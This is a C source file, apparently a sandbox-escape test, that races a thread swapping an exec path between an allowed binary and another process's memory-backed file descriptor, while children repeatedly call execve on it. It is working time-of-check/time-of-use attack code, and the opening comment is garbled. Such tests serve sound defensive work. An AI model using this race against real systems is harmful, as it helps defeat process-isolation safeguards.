/* Swaps the path of a program for a link to memory of another domain, which holds one: an exec that
 * was decided for the
   one must not run the other. */
#include "attack.h"
#include <pthread.h>
#include <sys/mman.h>

static char *path;
static char wanted[64];
static volatile int over;

static void *swap(void *none) {
    while (!over) {
        strcpy(path, "./granted");
        strcpy(path, wanted);
    }
    return none;
}

int main(void) {
    pthread_t thread;
    int ends[2], status = 0, ran = 0;
    char byte, *words[] = {"vault", "program", NULL};
    if (pipe(ends)) return 3;
    pid_t vault = fork();
    if (vault == 0) {
        dup2(ends[1], 1);
        execve("./vault", words, words + 2);
        _exit(3);
    }
    close(ends[1]);
    if (read(ends[0], &byte, 1) != 1) return 3;
    snprintf(wanted, sizeof wanted, "/proc/%d/fd/9", vault);
    path = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pthread_create(&thread, NULL, swap, NULL);
    words[1] = "who";
    for (double end = now() + 1; now() < end;) {
        pid_t child = fork();
        if (child == 0) {
            execve(path, words, words + 2);
            _exit(0);
        }
        if (waitpid(child, &status, 0) != child) return 3;
        if (WIFEXITED(status) && WEXITSTATUS(status) == ESCAPED) escaped("executed its memory");
        ran += WIFEXITED(status) && WEXITSTATUS(status) == 8;
    }
    over = 1;
    pthread_join(thread, NULL);
    kill(vault, SIGKILL);
    return ran ? 0 : 3;
}
